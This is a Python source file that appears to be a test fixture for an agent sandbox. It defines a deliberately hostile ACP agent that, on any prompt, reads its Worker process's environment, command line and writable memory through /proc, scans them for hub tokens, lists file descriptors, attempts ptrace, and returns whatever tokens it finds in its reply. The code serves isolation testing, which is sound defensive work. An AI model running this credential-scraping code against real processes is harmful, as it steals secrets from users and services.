#!/usr/bin/env python3
"""A purpose-built ACP agent (SDK only) that tries to steal its Worker's hub token, as an
agent that can run commands would, as the same user: on any prompt it reads its Worker's
/proc/<pid>/environ, cmdline, maps and mem (scanning the memory for token-shaped strings),
lists its fds and tries to ptrace it, and replies with what it got, the strings it found
included. `snoop_agent.py --probe PID [--no-ptrace]` runs the same attempts on PID from outside and
prints them as JSON (the same attack by another process of the same user).

The Worker is found from the keeper's command line (`keeper.py --worker PID -- …`); an
agent started without a keeper looks at its parent.
"""

from __future__ import annotations

import asyncio
import ctypes
import errno
import json
import os
import re
import sys
import uuid
from typing import Any

TOKEN = re.compile(rb"ap_[A-Za-z0-9_-]{43}")
PTRACE_DETACH = 17
PTRACE_SEIZE = 0x4206
PTRACE_INTERRUPT = 0x4207
WALL = 0x40000000
SCAN_LIMIT = 1 << 30  # bytes of the Worker's memory read at most


def _why(exc: OSError) -> str:
    return f"denied ({errno.errorcode.get(exc.errno or 0, exc.errno)})"


def worker_pid() -> int:
    parent = os.getppid()
    with open(f"/proc/{parent}/cmdline", "rb") as f:
        argv = f.read().split(b"\0")
    if b"--worker" in argv:
        return int(argv[argv.index(b"--worker") + 1])
    return parent


def _tokens(data: bytes) -> list[str]:
    return sorted({m.decode() for m in TOKEN.findall(data)})


def read_environ(pid: int) -> dict[str, Any]:
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            env = f.read()
    except OSError as exc:
        return {"result": _why(exc)}
    names = [e.split(b"=", 1)[0].decode() for e in env.split(b"\0") if e]
    return {"result": f"read {len(env)} bytes", "agentpost": sorted(
        n for n in names if n.startswith("AGENTPOST")
    ), "tokens": _tokens(env)}


def read_cmdline(pid: int) -> dict[str, Any]:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            argv = f.read()
    except OSError as exc:
        return {"result": _why(exc)}
    return {"result": f"read {len(argv)} bytes", "tokens": _tokens(argv)}


def read_mem(pid: int) -> dict[str, Any]:
    """Every writable mapping of the process, read through /proc/<pid>/mem (the kernel
    checks the same access as for PTRACE_ATTACH) and scanned for tokens."""
    try:
        with open(f"/proc/{pid}/maps") as f:
            maps = f.read().splitlines()
    except OSError as exc:
        return {"result": "maps " + _why(exc)}
    found: set[str] = set()
    scanned = 0
    try:
        mem = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
    except OSError as exc:
        return {"result": f"maps read ({len(maps)} lines), mem " + _why(exc)}
    try:
        for line in maps:
            fields = line.split()
            if len(fields) < 2 or not fields[1].startswith("rw") or line.endswith("]") and (
                "[heap]" not in line and "[stack]" not in line
            ):
                continue
            start, end = (int(x, 16) for x in fields[0].split("-"))
            if scanned + end - start > SCAN_LIMIT:
                continue
            try:
                data = os.pread(mem, end - start, start)
            except OSError:
                continue
            scanned += len(data)
            found.update(_tokens(data))
    finally:
        os.close(mem)
    return {"result": f"read {scanned} bytes", "tokens": sorted(found)}


def list_fds(pid: int) -> dict[str, Any]:
    try:
        return {"result": f"listed {len(os.listdir(f'/proc/{pid}/fd'))} fds"}
    except OSError as exc:
        return {"result": _why(exc)}


def try_ptrace(pid: int) -> dict[str, Any]:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if libc.ptrace(PTRACE_SEIZE, pid, None, None) != 0:
        return {"result": _why(OSError(ctypes.get_errno(), ""))}
    # Attached: let go again at once, so the Worker runs on as before.
    libc.ptrace(PTRACE_INTERRUPT, pid, None, None)
    os.waitpid(pid, WALL)
    libc.ptrace(PTRACE_DETACH, pid, None, None)
    return {"result": "attached"}


def probe(pid: int, ptrace: bool = True) -> dict[str, Any]:
    report = {
        "pid": pid,
        "uid": os.getuid(),
        "environ": read_environ(pid),
        "cmdline": read_cmdline(pid),
        "mem": read_mem(pid),
        "fd": list_fds(pid),
    }
    if ptrace:
        report["ptrace"] = try_ptrace(pid)
    return report


class SnoopAgent:
    def __init__(self) -> None:
        self.conn: Any = None

    def on_connect(self, conn: Any) -> None:
        self.conn = conn

    async def initialize(self, protocol_version: int, **kwargs: Any) -> Any:
        from acp import PROTOCOL_VERSION
        from acp.schema import InitializeResponse

        return InitializeResponse(protocol_version=PROTOCOL_VERSION)

    async def new_session(self, cwd: str, **kwargs: Any) -> Any:
        from acp.schema import NewSessionResponse

        return NewSessionResponse(session_id=uuid.uuid4().hex)

    async def cancel(self, session_id: str, **kwargs: Any) -> None:
        return None

    async def prompt(self, prompt: list[Any], session_id: str, **kwargs: Any) -> Any:
        from acp import text_block, update_agent_message
        from acp.schema import PromptResponse

        report = await asyncio.to_thread(probe, worker_pid())
        await self.conn.session_update(
            session_id=session_id,
            update=update_agent_message(text_block("snoop " + json.dumps(report))),
        )
        return PromptResponse(stop_reason="end_turn")


if __name__ == "__main__":
    if sys.argv[1:2] == ["--probe"]:
        print(json.dumps(probe(int(sys.argv[2]), ptrace="--no-ptrace" not in sys.argv)))
    else:
        from acp import run_agent

        asyncio.run(run_agent(SnoopAgent()))
